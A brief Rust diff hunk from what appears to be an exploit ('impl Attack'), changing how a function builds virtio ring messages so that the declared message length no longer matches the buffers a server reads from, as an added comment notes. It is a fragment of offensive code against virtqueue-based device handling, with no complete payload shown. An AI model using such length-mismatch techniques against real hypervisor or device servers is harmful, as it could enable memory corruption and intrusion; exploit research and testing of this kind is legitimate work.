@@ -78,8 +78,8 @@ impl Attack<'_> {
     }
 
     fn chain(&mut self, name: &str, opcode: u32, node: u64, body: &[u8], answered: bool) -> Result<()> {
-        let extra = if answered { 0 } else { DATA * PIECE };
-        let bytes = message(opcode, node, body, IN_HEADER + body.len() + extra);
+        // What it says of its length is a lie: the buffers are what the server reads from.
+        let bytes = message(opcode, node, body, IN_HEADER + body.len());
         self.head.write(0, &bytes);
         self.answer.put(4, 0u32);
         let (next, write) = (VRING_DESC_F_NEXT as u16, VRING_DESC_F_WRITE as u16);
